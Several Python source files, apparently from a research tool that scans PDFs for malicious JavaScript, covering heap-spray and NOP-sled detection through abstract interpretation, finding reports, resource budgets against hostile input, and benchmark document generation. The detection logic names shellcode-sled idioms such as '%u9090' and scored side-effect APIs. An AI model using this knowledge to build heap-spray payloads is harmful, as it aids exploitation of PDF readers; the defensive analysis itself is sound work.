        sled = ""
        if self.sled_chars.lo:
            sled = f" sled≥{int(self.sled_chars.lo)}"
        return f"{self.kind}[{lo}..{hi}]{unit}{sled}"


# ---------------------------------------------------------------------------
# String classification


def primitive_period(text: str) -> str:
    """Smallest unit ``u`` with ``text == u * k`` (may be ``text``)."""
    if not text:
        return text
    # Classic trick: the earliest non-trivial occurrence of text in
    # (text + text) reveals the primitive period.
    shift = (text + text).find(text, 1)
    if shift != -1 and len(text) % shift == 0:
        return text[:shift]
    return text


def is_sled_unit(unit: str) -> bool:
    """Does this unit look like shellcode/NOP-sled material rather than
    printable text?  ``unescape("%u9090")`` produces ``"邐"``."""
    if not unit or len(unit) > 8:
        return False
    return all(ord(ch) >= 0x80 or ord(ch) < 0x20 for ch in unit)


def classify_string(text: str) -> AbsStr:
    """Shape summary of an exact string (used when a constant must be
    generalised — joins, oversized folds)."""
    length = Interval.exact(float(len(text)))
    if not text:
        return AbsStr(SHAPE_TEXT, length)
    unit = primitive_period(text)
    if len(unit) < len(text) and is_sled_unit(unit):
        return AbsStr(SHAPE_REPEATED, length, unit=unit, sled_chars=length)
    if _PCT_U_RE.search(text) and len(_PCT_U_RE.findall(text)) * 6 >= len(text) // 2:
        return AbsStr(SHAPE_PERCENT_U, length)
    if _NUMERIC_RE.match(text):
        return AbsStr(SHAPE_NUMERIC, length)
    if len(text) >= 16 and _HEX_RE.match(text):
        return AbsStr(SHAPE_HEX, length)
    if len(unit) < len(text):
        return AbsStr(SHAPE_REPEATED, length, unit=unit)
    return AbsStr(SHAPE_TEXT, length)


def length_of(value: AbsValue) -> Interval:
    """Interval of ``value.length`` for string-ish abstract values."""
    if isinstance(value, AbsConst) and isinstance(value.value, str):
        return Interval.exact(float(len(value.value)))
    if isinstance(value, AbsStr):
        return value.length
    return NONNEG


def sled_prefix_of(value: AbsValue) -> Interval:
    """Proven bounds on the sled-character prefix of a string value."""
    if isinstance(value, AbsConst) and isinstance(value.value, str):
        return classify_string(value.value).sled_chars
    if isinstance(value, AbsStr):
        return value.sled_chars
    return ZERO


def sled_unit_of(value: AbsValue) -> Optional[str]:
    if isinstance(value, AbsConst) and isinstance(value.value, str):
        shape = classify_string(value.value)
        return shape.unit if shape.sled_chars.lo else None
    if isinstance(value, AbsStr):
        return value.unit
    return None


def number_range(value: AbsValue) -> Optional[Interval]:
    """Interval view of a numeric abstract value (``None`` if not a
    number)."""
    if isinstance(value, AbsConst):
        if isinstance(value.value, bool):
            return Interval.exact(1.0 if value.value else 0.0)
        if isinstance(value.value, float):
            return Interval.exact(value.value)
        return None
    if isinstance(value, AbsNum):
        return value.range
    return None


# ---------------------------------------------------------------------------
# Join / widen


def _join_const_strings(a: str, b: str) -> AbsValue:
    """Generalise two distinct exact strings.

    The doubling-loop case matters most: ``a`` and ``b = a + a`` share
    a primitive period, so the join is a ``repeated-unit`` shape whose
    length interval spans both — widening then lifts the upper bound
    and the loop converges.
    """
    length = Interval.exact(float(len(a))).join(Interval.exact(float(len(b))))
    unit_a = primitive_period(a) if a else None
    unit_b = primitive_period(b) if b else None
    if unit_a and unit_a == unit_b:
        sled = length if is_sled_unit(unit_a) else ZERO
        return AbsStr(SHAPE_REPEATED, length, unit=unit_a, sled_chars=sled)
    shape_a, shape_b = classify_string(a), classify_string(b)
    kind = shape_a.kind if shape_a.kind == shape_b.kind else SHAPE_TEXT
    if kind in (SHAPE_REPEATED, SHAPE_SLED_CARRIER):
        kind = SHAPE_TEXT
    return AbsStr(kind, length)


def _join_str_shapes(a: AbsStr, b: AbsStr) -> AbsStr:
    length = a.length.join(b.length)
    sled = a.sled_chars.join(b.sled_chars)
    if a.kind == b.kind and a.unit == b.unit:
        return AbsStr(a.kind, length, unit=a.unit, sled_chars=sled)
    kinds = {a.kind, b.kind}
    if kinds <= {SHAPE_REPEATED, SHAPE_SLED_CARRIER} and a.unit == b.unit:
        return AbsStr(SHAPE_SLED_CARRIER, length, unit=a.unit, sled_chars=sled)
    return AbsStr(SHAPE_TEXT, length, sled_chars=sled)


def as_str_shape(value: AbsValue) -> Optional[AbsStr]:
    if isinstance(value, AbsStr):
        return value
    if isinstance(value, AbsConst) and isinstance(value.value, str):
        return classify_string(value.value)
    return None


def join_value(a: AbsValue, b: AbsValue) -> AbsValue:
    if a == b:
        return a
    if isinstance(a, _Bottom):
        return b
    if isinstance(b, _Bottom):
        return a
    if isinstance(a, _Top) or isinstance(b, _Top):
        return TOP
    if isinstance(a, AbsConst) and isinstance(b, AbsConst):
        if isinstance(a.value, str) and isinstance(b.value, str):
            return _join_const_strings(a.value, b.value)
        ra, rb = number_range(a), number_range(b)
        if ra is not None and rb is not None:
            return AbsNum(ra.join(rb))
        return TOP
    sa, sb = as_str_shape(a), as_str_shape(b)
    if sa is not None and sb is not None:
        return _join_str_shapes(sa, sb)
    ra, rb = number_range(a), number_range(b)
    if ra is not None and rb is not None:
        return AbsNum(ra.join(rb))
    if isinstance(a, _LocalObj) and isinstance(b, _LocalObj):
        return LOCAL_OBJ
    if isinstance(a, AbsFunc) and isinstance(b, AbsFunc):
        return AbsFunc("")
    return TOP


def widen_value(a: AbsValue, b: AbsValue) -> AbsValue:
    """Widening: like join, but interval bounds that moved go to ±∞."""
    joined = join_value(a, b)
    if joined == a:
        return a
    if isinstance(joined, AbsNum):
        base = number_range(a)
        if base is not None:
            return AbsNum(base.widen(joined.range))
        return AbsNum(Interval.top())
    if isinstance(joined, AbsStr):
        base = as_str_shape(a)
        if base is not None:
            return replace(
                joined,
                length=base.length.widen(joined.length),
                sled_chars=base.sled_chars.widen(joined.sled_chars),
            )
        return replace(
            joined, length=NONNEG, sled_chars=ZERO
        )
    return joined


# ---------------------------------------------------------------------------
# Abstract string operations (the few the spray idiom needs)


def concat(a: AbsValue, b: AbsValue) -> AbsValue:
    """Abstract ``a + b`` where at least one side is string-ish."""
    if isinstance(a, AbsConst) and isinstance(b, AbsConst):
        raise ValueError("constant concat must be done exactly by the caller")
    sa, sb = as_str_shape(a), as_str_shape(b)
    if sa is None or sb is None:
        known = sa or sb
        if known is None:
            return TOP
        # One side is an unknown string-convertible value: keep the
        # known side's sled prefix only when it comes first.
        if known is sa:
            return AbsStr(
                SHAPE_SLED_CARRIER if known.sled_chars.lo else SHAPE_TEXT,
                Interval(known.length.lo, None),
                unit=known.unit,
                sled_chars=Interval(known.sled_chars.lo, None)
                if known.sled_chars.lo
                else ZERO,
            )
        return AbsStr(SHAPE_TEXT, Interval(known.length.lo, None))
    length = sa.length.add(sb.length)
    # The left side's sled prefix survives concatenation; if the left
    # side is *pure* sled (repeated unit), the right side's sled would
    # only extend it when units match.
    sled = sa.sled_chars
    if (
        sa.kind == SHAPE_REPEATED
        and sa.unit is not None
        and sa.unit == sb.unit
        and sb.sled_chars.lo
    ):
        sled = sa.sled_chars.add(sb.sled_chars)
        return AbsStr(SHAPE_REPEATED, length, unit=sa.unit, sled_chars=sled)
    if sled.lo:
        return AbsStr(SHAPE_SLED_CARRIER, length, unit=sa.unit, sled_chars=sled)
    return AbsStr(SHAPE_TEXT, length)


def prefix_slice(value: AbsValue, count: Interval) -> AbsValue:
    """Abstract ``s.substring(0, n)`` / ``s.substr(0, n)``.

    The result is a prefix of ``value`` of length ``min(n, len(s))``;
    sled prefixes survive prefix slicing exactly.
    """
    shape = as_str_shape(value)
    if shape is None:
        return TOP
    len_lo = 0.0
    if count.lo is not None and shape.length.lo is not None:
        len_lo = min(count.lo, shape.length.lo)
    len_hi: Optional[float] = count.hi
    if shape.length.hi is not None:
        len_hi = shape.length.hi if len_hi is None else min(len_hi, shape.length.hi)
    length = Interval(len_lo, len_hi)
    sled_lo = 0.0
    if shape.sled_chars.lo is not None:
        sled_lo = min(shape.sled_chars.lo, len_lo)
    kind = shape.kind
    if kind == SHAPE_SLED_CARRIER and not sled_lo:
        kind = SHAPE_TEXT
    return AbsStr(
        kind,
        length,
        unit=shape.unit,
        sled_chars=Interval(sled_lo, length.hi),
    )
