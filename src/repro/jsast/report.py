"""Structured results of static JS analysis.

A :class:`Finding` is one rule firing on one script; a
:class:`JSStaticReport` aggregates every finding for one script plus
the obfuscation score and the script's *triage eligibility* — whether
it is provably safe to skip runtime emulation for it.  Both serialise
to JSON (``repro lint --json``, ``OpenReport.to_dict``).
"""

from __future__ import annotations

import enum
from dataclasses import dataclass, field
from typing import Any, Dict, List, Optional

#: Longest evidence excerpt carried in a finding.
MAX_EVIDENCE_CHARS = 160


class Severity(enum.IntEnum):
    """How strongly a finding indicates malice.

    ``INFO`` findings are advisory only — they never block the benign
    triage fast path (but side-effect APIs, reported at INFO, block it
    through a separate channel: they mean the script *does* something
    the runtime detector scores, so its verdict cannot be synthesised
    statically).
    """

    INFO = 1
    SUSPICIOUS = 2
    STRONG = 3
    #: Abstract interpretation *proved* the behaviour (not a pattern
    #: match): see :mod:`repro.jsast.rules_absint`.
    PROVEN = 4


#: Findings at or above this severity disqualify a script from triage.
TRIAGE_SEVERITY = Severity.SUSPICIOUS


@dataclass(frozen=True)
class Finding:
    """One rule firing on one script."""

    rule: str
    severity: Severity
    message: str
    #: Source/constant excerpt that triggered the rule (truncated).
    evidence: str = ""
    #: Contribution to the script's obfuscation score (0 for behaviour
    #: rules that indicate intent rather than obfuscation).
    score: float = 0.0

    def __post_init__(self) -> None:
        if len(self.evidence) > MAX_EVIDENCE_CHARS:
            object.__setattr__(
                self, "evidence", self.evidence[: MAX_EVIDENCE_CHARS - 1] + "…"
            )

    def to_dict(self) -> Dict[str, Any]:
        return {
            "rule": self.rule,
            "severity": self.severity.name.lower(),
            "message": self.message,
            "evidence": self.evidence,
            "score": self.score,
        }

    @classmethod
    def from_dict(cls, payload: Dict[str, Any]) -> "Finding":
        return cls(
            rule=str(payload["rule"]),
            severity=Severity[str(payload["severity"]).upper()],
            message=str(payload.get("message", "")),
            evidence=str(payload.get("evidence", "")),
            score=float(payload.get("score", 0.0)),
        )


@dataclass
class JSStaticReport:
    """Everything static analysis learned about one script."""

    script: str
    findings: List[Finding] = field(default_factory=list)
    #: 0–10; how hard the script works to hide what it does.
    obfuscation_score: float = 0.0
    #: Syntax/lexer error text when the script did not parse.
    parse_error: Optional[str] = None
    #: APIs with runtime side effects the detector scores (SOAP.request,
    #: exportDataObject, app.setTimeOut, ...).  Non-empty ⇒ the runtime
    #: verdict cannot be synthesised statically ⇒ triage-ineligible.
    side_effect_apis: List[str] = field(default_factory=list)
    #: The rule-set that produced this report (cache invalidation).
    ruleset_version: str = ""
    #: Abstract-interpretation section (:mod:`repro.jsast.rules_absint`
    #: ``run_absint`` output); ``None`` when the absint tier did not run.
    absint: Optional[Dict[str, Any]] = None

    @property
    def max_severity(self) -> int:
        return max((f.severity for f in self.findings), default=0)

    @property
    def suspicious(self) -> bool:
        """Any finding at or above the triage severity?"""
        return self.max_severity >= TRIAGE_SEVERITY

    @property
    def absint_verdict(self) -> str:
        """``proven-benign`` / ``proven-malicious`` / ``unknown``."""
        if not self.absint:
            return "unknown"
        return str(self.absint.get("verdict", "unknown"))

    @property
    def proven_benign(self) -> bool:
        return self.absint_verdict == "proven-benign"

    @property
    def proven_malicious(self) -> bool:
        return self.absint_verdict == "proven-malicious"

    @property
    def triage_eligible(self) -> bool:
        """May the runtime phase be skipped on the strength of this
        analysis alone?  Fail-open: parse errors and side effects say
        no — unless abstract interpretation *proved* the script cannot
        reach a scored API channel (it sees through obfuscation layers
        the one-shot classic rules must fail open on)."""
        if self.proven_benign:
            return True
        return (
            self.parse_error is None
            and not self.suspicious
            and not self.side_effect_apis
        )

    def rules_fired(self) -> List[str]:
        return sorted({f.rule for f in self.findings})

    def to_dict(self) -> Dict[str, Any]:
        return {
            "script": self.script,
            "findings": [f.to_dict() for f in self.findings],
            "obfuscation_score": self.obfuscation_score,
            "parse_error": self.parse_error,
            "side_effect_apis": list(self.side_effect_apis),
            "triage_eligible": self.triage_eligible,
            "ruleset_version": self.ruleset_version,
            "absint": self.absint,
        }

    @classmethod
    def from_dict(cls, payload: Dict[str, Any]) -> "JSStaticReport":
        return cls(
            script=str(payload.get("script", "script")),
            findings=[Finding.from_dict(f) for f in payload.get("findings", [])],
            obfuscation_score=float(payload.get("obfuscation_score", 0.0)),
            parse_error=payload.get("parse_error"),
            side_effect_apis=list(payload.get("side_effect_apis", [])),
            ruleset_version=str(payload.get("ruleset_version", "")),
            absint=payload.get("absint"),
        )
