"""Static JavaScript analysis (``repro.jsast``).

Phase I's five static features never look *inside* the extracted
JavaScript; this package does.  It walks the :mod:`repro.js.nodes` AST
of every script on a JavaScript chain, folds one layer of constant
strings (`fold`), and runs a registry of lint rules (`rules`) over the
folded tree.  Each script yields a :class:`JSStaticReport` — findings
with rule provenance plus an obfuscation score — and the document-level
:class:`DocumentJSAnalysis` decides *benign-triage eligibility*: whether
``pipeline.scan`` may safely skip Phase-II runtime emulation.

Triage is strictly fail-open: a parse error, an analysis crash, any
finding at or above :data:`~repro.jsast.report.TRIAGE_SEVERITY`, a
side-effect-capable API, or any active document content (embedded
files, render media) sends the document to full emulation.

On top of the one-shot lint pass sits the *proof tier*
(`absint` + `rules_absint`): an abstract interpreter with a string-shape
value lattice that peels arbitrarily many constant ``eval``/
``document.write`` staging layers and emits PROVEN-BENIGN /
PROVEN-MALICIOUS verdicts, letting ``pipeline.scan`` triage in *both*
directions.  See ``docs/STATIC_ANALYSIS.md``.
"""

from __future__ import annotations

from repro.jsast.absint import AbsintResult, interpret_script
from repro.jsast.analyzer import (
    DocumentJSAnalysis,
    analyze_document,
    analyze_script,
)
from repro.jsast.fold import fold_program
from repro.jsast.report import (
    Finding,
    JSStaticReport,
    Severity,
    TRIAGE_SEVERITY,
)
from repro.jsast.rules import RULES, RULESET_VERSION, RuleContext, rule
from repro.jsast.rules_absint import ABSINT_VERSION, run_absint
from repro.jsast.walk import NodeVisitor, iter_child_nodes, walk

__all__ = [
    "ABSINT_VERSION",
    "AbsintResult",
    "DocumentJSAnalysis",
    "Finding",
    "JSStaticReport",
    "NodeVisitor",
    "RULES",
    "RULESET_VERSION",
    "RuleContext",
    "Severity",
    "TRIAGE_SEVERITY",
    "analyze_document",
    "analyze_script",
    "fold_program",
    "interpret_script",
    "iter_child_nodes",
    "rule",
    "run_absint",
    "walk",
]
