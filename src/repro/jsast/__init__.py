"""Static JavaScript analysis (``repro.jsast``).

Phase I's five static features never look *inside* the extracted
JavaScript; this package does.  It walks the :mod:`repro.js.nodes` AST
of every script on a JavaScript chain, folds one layer of constant
strings (`fold`), and runs a registry of lint rules (`rules`) over the
folded tree.  Each script yields a :class:`JSStaticReport` — findings
with rule provenance plus an obfuscation score — and the document-level
:class:`DocumentJSAnalysis` decides *benign-triage eligibility*: whether
``pipeline.scan`` may safely skip Phase-II runtime emulation.

Triage is strictly fail-open: a parse error, an analysis crash, any
finding at or above :data:`~repro.jsast.report.TRIAGE_SEVERITY`, a
side-effect-capable API, or any active document content (embedded
files, render media) sends the document to full emulation.  See
``docs/STATIC_ANALYSIS.md``.
"""

from __future__ import annotations

from repro.jsast.analyzer import (
    DocumentJSAnalysis,
    analyze_document,
    analyze_script,
)
from repro.jsast.fold import fold_program
from repro.jsast.report import (
    Finding,
    JSStaticReport,
    Severity,
    TRIAGE_SEVERITY,
)
from repro.jsast.rules import RULES, RULESET_VERSION, RuleContext, rule
from repro.jsast.walk import NodeVisitor, iter_child_nodes, walk

__all__ = [
    "DocumentJSAnalysis",
    "Finding",
    "JSStaticReport",
    "NodeVisitor",
    "RULES",
    "RULESET_VERSION",
    "RuleContext",
    "Severity",
    "TRIAGE_SEVERITY",
    "analyze_document",
    "analyze_script",
    "fold_program",
    "iter_child_nodes",
    "rule",
    "walk",
]
