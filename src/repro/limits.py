"""Resource budgets for scanning hostile input (``repro.limits``).

The front-end parses *attacker-supplied* PDFs before any detection
happens, so every unbounded loop in the parse path is a denial of
service waiting to happen: a decompression bomb, a 100-level filter
cascade, an xref table claiming 2^31 entries, a cyclic reference
chain, or a page tree nested a few thousand dicts deep.  This module
centralises the budgets that bound that work:

* :class:`ScanLimits` — the immutable configuration: how much of each
  resource one document may consume (``None`` disables a budget).
* :class:`ScanBudget` — the per-scan runtime companion: tracks the
  wall-clock deadline and accumulated decompressed bytes, and raises
  :class:`ResourceLimitExceeded` the moment a budget is blown.
* :func:`activate` / :func:`active` — a :mod:`contextvars`-based scope
  so deeply nested code (``PDFStream.decoded_data`` called from
  anywhere) sees the budget of the scan it runs under without having
  the budget threaded through every signature.

The pipeline (:meth:`repro.core.pipeline.ProtectionPipeline.scan`)
activates one budget per document and converts any
:class:`ResourceLimitExceeded` into a structured *errored*
``OpenReport`` naming the blown budget — never a hang, OOM or bare
traceback.  See ``docs/HARDENING.md`` for each budget and its default.
"""

from __future__ import annotations

import contextlib
import contextvars
import time
from dataclasses import dataclass, fields, replace
from typing import Any, Dict, Iterator, Optional


class ResourceLimitExceeded(Exception):
    """A scan blew one of its resource budgets.

    ``kind`` names the budget (``stream-bytes``, ``document-bytes``,
    ``filter-depth``, ``object-count``, ``nesting-depth``,
    ``deadline``, ``js-steps``); ``limit`` is the configured bound and
    ``detail`` optional free-text evidence.  The JS engine's historical
    ``resource`` attribute is kept as an alias.
    """

    def __init__(self, kind: str, limit: Any, detail: Optional[str] = None) -> None:
        text = f"{kind} limit exceeded (limit {limit}"
        if detail:
            text += f"; {detail}"
        text += ")"
        super().__init__(text)
        self.kind = kind
        self.limit = limit
        self.detail = detail

    @property
    def resource(self) -> str:
        return self.kind

    def evidence(self) -> Dict[str, Any]:
        """JSON-serialisable description for reports."""
        return {"kind": self.kind, "limit": self.limit, "detail": self.detail}


_SIZE_SUFFIXES = {"k": 1 << 10, "kb": 1 << 10, "m": 1 << 20, "mb": 1 << 20,
                  "g": 1 << 30, "gb": 1 << 30}

_UNLIMITED_WORDS = {"none", "off", "unlimited", "inf"}


def _parse_size(text: str) -> Optional[int]:
    text = text.strip().lower()
    if text in _UNLIMITED_WORDS:
        return None
    for suffix, factor in _SIZE_SUFFIXES.items():
        if text.endswith(suffix):
            return int(float(text[: -len(suffix)]) * factor)
    return int(text)


@dataclass(frozen=True)
class ScanLimits:
    """Per-document resource budgets (``None`` = that budget is off).

    The defaults are deliberately generous — orders of magnitude above
    anything a legitimate document in the corpus needs — so they only
    ever fire on hostile or pathological input.
    """

    #: Decompressed output bytes allowed for a single stream.
    max_stream_bytes: Optional[int] = 64 * 1024 * 1024
    #: Total decompressed bytes across all streams of one document.
    max_document_bytes: Optional[int] = 256 * 1024 * 1024
    #: Filters allowed in one stream's decode cascade.
    max_filter_depth: Optional[int] = 12
    #: Indirect objects one document may define (also clamps xref
    #: subsection entry counts claimed by the file).
    max_objects: Optional[int] = 250_000
    #: Reference-resolution hops before ``deep_resolve`` gives up and
    #: returns null (cyclic or absurdly long ``R`` chains).
    max_ref_hops: int = 64
    #: Container (dict/array) nesting depth while parsing values and
    #: walking the page tree.
    max_nesting_depth: Optional[int] = 120
    #: Wall-clock seconds one scan may spend (checked *inside* the
    #: parser loops, so a hung parse aborts itself even on a thread
    #: pool that cannot kill workers).
    deadline_seconds: Optional[float] = 30.0
    #: JS interpreter step budget (unifies the engine's ``max_steps``).
    max_js_steps: int = 20_000_000
    #: Abstract-interpretation step budget per script (the static
    #: triage proof tier; exhausted budgets fail open to the runtime).
    max_absint_steps: int = 200_000

    # -- construction ----------------------------------------------------

    @classmethod
    def unlimited(cls) -> "ScanLimits":
        """Every budget off (step budget kept: an infinite JS loop
        would otherwise hang even trusted-input workflows)."""
        return cls(
            max_stream_bytes=None,
            max_document_bytes=None,
            max_filter_depth=None,
            max_objects=None,
            max_nesting_depth=None,
            deadline_seconds=None,
        )

    #: CLI spelling -> field name (``repro scan --limits k=v,k=v``).
    ALIASES = {
        "stream-bytes": "max_stream_bytes",
        "document-bytes": "max_document_bytes",
        "filter-depth": "max_filter_depth",
        "objects": "max_objects",
        "ref-hops": "max_ref_hops",
        "nesting-depth": "max_nesting_depth",
        "deadline": "deadline_seconds",
        "js-steps": "max_js_steps",
        "absint-steps": "max_absint_steps",
    }

    @classmethod
    def parse(cls, spec: str, base: Optional["ScanLimits"] = None) -> "ScanLimits":
        """Parse ``key=value,key=value`` overrides onto ``base``.

        Keys use the CLI spellings (:attr:`ALIASES`); sizes accept
        ``kb``/``mb``/``gb`` suffixes; ``none``/``off`` disables a
        budget.  Example: ``stream-bytes=8mb,deadline=5``.
        """
        limits = base if base is not None else cls()
        overrides: Dict[str, Any] = {}
        for part in spec.split(","):
            part = part.strip()
            if not part:
                continue
            if "=" not in part:
                raise ValueError(f"bad limits override {part!r} (want key=value)")
            key, _, value = part.partition("=")
            field_name = cls.ALIASES.get(key.strip())
            if field_name is None:
                known = ", ".join(sorted(cls.ALIASES))
                raise ValueError(f"unknown limit {key.strip()!r} (known: {known})")
            if field_name == "deadline_seconds":
                text = value.strip().lower()
                overrides[field_name] = (
                    None if text in _UNLIMITED_WORDS else float(text)
                )
            elif field_name in (
                "max_ref_hops",
                "max_js_steps",
                "max_absint_steps",
            ):
                overrides[field_name] = int(float(value))
            else:
                overrides[field_name] = _parse_size(value)
        return replace(limits, **overrides)

    # -- serialisation ---------------------------------------------------

    def to_dict(self) -> Dict[str, Any]:
        return {f.name: getattr(self, f.name) for f in fields(self)}

    @classmethod
    def from_dict(cls, payload: Dict[str, Any]) -> "ScanLimits":
        known = {f.name for f in fields(cls)}
        return cls(**{k: v for k, v in payload.items() if k in known})

    def describe(self) -> str:
        """One-line human-readable rendering (CLI/report output)."""
        parts = []
        for alias, field_name in self.ALIASES.items():
            value = getattr(self, field_name)
            parts.append(f"{alias}={'off' if value is None else value}")
        return " ".join(parts)


#: The process-wide default budget configuration.
DEFAULT_LIMITS = ScanLimits()


def cap_deadline(limits: ScanLimits, seconds: Optional[float]) -> ScanLimits:
    """Return ``limits`` with its wall-clock deadline capped at ``seconds``.

    The batch scanner and the scan service both run scans on worker
    threads that cannot be killed, so any externally imposed deadline
    (per-attempt timeout, admission deadline) must be folded into the
    in-parser budget — a hung parse then aborts *itself* instead of
    squatting a pool slot.  ``seconds=None`` leaves ``limits``
    untouched; a tighter existing deadline is kept.
    """
    if seconds is None:
        return limits
    if limits.deadline_seconds is None or limits.deadline_seconds > seconds:
        return replace(limits, deadline_seconds=seconds)
    return limits


def merge_deadlines(*instants: Optional[float]) -> Optional[float]:
    """Earliest of several ``time.monotonic`` deadline instants.

    ``None`` means "no deadline" and never wins.  This is how external
    deadlines compose across layers: the cluster router's per-request
    budget, a shard's own admission deadline and the scanner's
    per-attempt timeout each contribute an instant, and the request
    runs under the tightest — deadline propagation is a ``min``, never
    a replacement, so no layer can *extend* a budget set above it.
    """
    merged: Optional[float] = None
    for instant in instants:
        if instant is None:
            continue
        merged = instant if merged is None else min(merged, instant)
    return merged


class ScanBudget:
    """Mutable per-scan state enforcing one :class:`ScanLimits`.

    One instance covers one document scan end to end (both phases);
    decompressed bytes are charged per *stream object* at its maximum
    observed size, so re-decoding the same stream twice is not counted
    twice.
    """

    __slots__ = ("limits", "_clock", "_deadline_at", "_stream_bytes",
                 "_total_bytes", "hits")

    def __init__(self, limits: Optional[ScanLimits] = None) -> None:
        self.limits = limits if limits is not None else DEFAULT_LIMITS
        self._clock = time.monotonic
        self._deadline_at: Optional[float] = None
        if self.limits.deadline_seconds is not None:
            self._deadline_at = self._clock() + self.limits.deadline_seconds
        self._stream_bytes: Dict[int, int] = {}
        self._total_bytes = 0
        #: Budget kinds that raised under this budget (for reports).
        self.hits: list[str] = []

    # -- individual checks ----------------------------------------------

    def _blow(self, kind: str, limit: Any, detail: Optional[str] = None) -> None:
        self.hits.append(kind)
        raise ResourceLimitExceeded(kind, limit, detail)

    def check_deadline(self) -> None:
        if self._deadline_at is not None and self._clock() > self._deadline_at:
            self._blow(
                "deadline", self.limits.deadline_seconds,
                "parse/scan wall-clock budget spent",
            )

    def check_filter_depth(self, depth: int) -> None:
        bound = self.limits.max_filter_depth
        if bound is not None and depth > bound:
            self._blow("filter-depth", bound, f"cascade declares {depth} filters")

    def check_object_count(self, count: int) -> None:
        bound = self.limits.max_objects
        if bound is not None and count > bound:
            self._blow("object-count", bound, f"document defines {count}+ objects")

    def check_nesting_depth(self, depth: int) -> None:
        bound = self.limits.max_nesting_depth
        if bound is not None and depth > bound:
            self._blow("nesting-depth", bound, "containers nested too deeply")

    def exhaust_ref_hops(self, hops: int) -> None:
        """A reference chain outran the hop budget (a cycle, usually)."""
        self._blow(
            "ref-hops", self.limits.max_ref_hops,
            f"reference chain still unresolved after {hops} hops (cycle?)",
        )

    @property
    def max_stream_output(self) -> Optional[int]:
        return self.limits.max_stream_bytes

    def charge_stream(self, key: int, nbytes: int) -> None:
        """Account ``nbytes`` of decompressed output for stream ``key``."""
        bound = self.limits.max_stream_bytes
        if bound is not None and nbytes > bound:
            self._blow("stream-bytes", bound, f"stream inflated to {nbytes} bytes")
        previous = self._stream_bytes.get(key, 0)
        if nbytes > previous:
            self._total_bytes += nbytes - previous
            self._stream_bytes[key] = nbytes
        doc_bound = self.limits.max_document_bytes
        if doc_bound is not None and self._total_bytes > doc_bound:
            self._blow(
                "document-bytes", doc_bound,
                f"document inflated to {self._total_bytes} bytes",
            )

    @property
    def total_decompressed(self) -> int:
        return self._total_bytes

    def remaining_seconds(self) -> Optional[float]:
        if self._deadline_at is None:
            return None
        return max(0.0, self._deadline_at - self._clock())


_active: contextvars.ContextVar[Optional[ScanBudget]] = contextvars.ContextVar(
    "repro_scan_budget", default=None
)


def active() -> Optional[ScanBudget]:
    """The budget of the enclosing :func:`activate` scope, if any."""
    return _active.get()


@contextlib.contextmanager
def activate(limits: Optional[ScanLimits] = None) -> Iterator[ScanBudget]:
    """Install a :class:`ScanBudget` for the duration of one scan.

    Re-entrant: when a budget is already active (e.g. an embedded PDF
    instrumented inside its host's scan), the enclosing budget keeps
    governing — deadline and byte totals stay document-wide.
    """
    existing = _active.get()
    if existing is not None:
        yield existing
        return
    budget = ScanBudget(limits)
    token = _active.set(budget)
    try:
        yield budget
    finally:
        _active.reset(token)


__all__ = [
    "DEFAULT_LIMITS",
    "ResourceLimitExceeded",
    "ScanBudget",
    "ScanLimits",
    "activate",
    "active",
    "cap_deadline",
    "merge_deadlines",
]
