"""Documents of controlled byte size (Table X/XI workloads).

The paper measures front-end cost on files of 2 KB, 9 KB, 24 KB,
325 KB, 7.0 MB and 19.7 MB; this module builds documents that land on
those sizes (incompressible stream padding, so decompression cost
scales with file size the way real scanned/image-heavy PDFs do).
"""

from __future__ import annotations

import random
import zlib
from typing import List, Tuple

from repro.pdf.builder import DocumentBuilder
from repro.pdf.objects import PDFDict, PDFName, PDFStream

#: The file sizes of Table X, as (label, bytes).
TABLE_X_SIZES: Tuple[Tuple[str, int], ...] = (
    ("2 KB", 2 * 1024),
    ("9 KB", 9 * 1024),
    ("24 KB", 24 * 1024),
    ("325 KB", 325 * 1024),
    ("7.0 MB", 7 * 1024 * 1024),
    ("19.7 MB", int(19.7 * 1024 * 1024)),
)


def _incompressible(n: int, seed: int) -> bytes:
    rng = random.Random(seed)
    return rng.randbytes(n)


def document_of_size(
    target_bytes: int,
    scripts: int = 1,
    seed: int = 0,
    tolerance: float = 0.02,
) -> bytes:
    """Build a document whose serialized size ≈ ``target_bytes``.

    ``scripts`` singly-invoked JavaScript actions are attached (the
    paper notes instrumentation cost scales with script count, not
    file size).
    """
    builder = DocumentBuilder()
    builder.add_page("sized document")
    for index in range(scripts):
        builder.add_javascript(
            f"var s{index} = {index} + 1; s{index} * 2;",
            trigger="Names" if index else "OpenAction",
            name=f"js{index}" if index else None,
        )
    skeleton = len(builder.to_bytes())
    pad = target_bytes - skeleton - 220  # stream dict + xref entry overhead
    if pad > 0:
        raw = zlib.compress(_incompressible(pad, seed))
        # compress() of random data adds ~0.03%; trim to land precisely.
        if len(raw) > pad:
            body = _incompressible(pad, seed)
            stream = PDFStream(PDFDict({PDFName("Type"): PDFName("XObject")}), body)
        else:
            stream = PDFStream(
                PDFDict(
                    {
                        PDFName("Type"): PDFName("XObject"),
                        PDFName("Filter"): PDFName("FlateDecode"),
                    }
                ),
                raw,
            )
        builder.document.add_object(stream)
    data = builder.to_bytes()
    if target_bytes > 4096:
        assert abs(len(data) - target_bytes) / target_bytes < max(tolerance, 0.05)
    return data


def table_x_documents(seed: int = 7) -> List[Tuple[str, bytes]]:
    """The six Table X documents."""
    return [
        (label, document_of_size(size, scripts=2 if label == "2 KB" else 1, seed=seed + i))
        for i, (label, size) in enumerate(TABLE_X_SIZES)
    ]


def document_with_scripts(count: int, seed: int = 0) -> bytes:
    """A document with ``count`` separate (singly invoked) scripts —
    the §V-D2 runtime-overhead workload."""
    builder = DocumentBuilder()
    builder.add_page("overhead probe")
    rng = random.Random(seed)
    for index in range(count):
        body = f"var v{index} = {rng.randint(1, 99)}; v{index} + {index};"
        if index == 0:
            builder.add_javascript(body, trigger="OpenAction")
        else:
            builder.add_javascript(body, trigger="Names", name=f"n{index}")
    return builder.to_bytes()
