"""Documents of controlled byte size (Table X/XI workloads).

The paper measures front-end cost on files of 2 KB, 9 KB, 24 KB,
325 KB, 7.0 MB and 19.7 MB; this module builds documents that land on
those sizes (incompressible stream padding, so decompression cost
scales with file size the way real scanned/image-heavy PDFs do).
"""

from __future__ import annotations

import random
import zlib
from typing import List, Tuple

from repro.pdf.builder import DocumentBuilder
from repro.pdf.objects import PDFDict, PDFName, PDFStream

#: The file sizes of Table X, as (label, bytes).
TABLE_X_SIZES: Tuple[Tuple[str, int], ...] = (
    ("2 KB", 2 * 1024),
    ("9 KB", 9 * 1024),
    ("24 KB", 24 * 1024),
    ("325 KB", 325 * 1024),
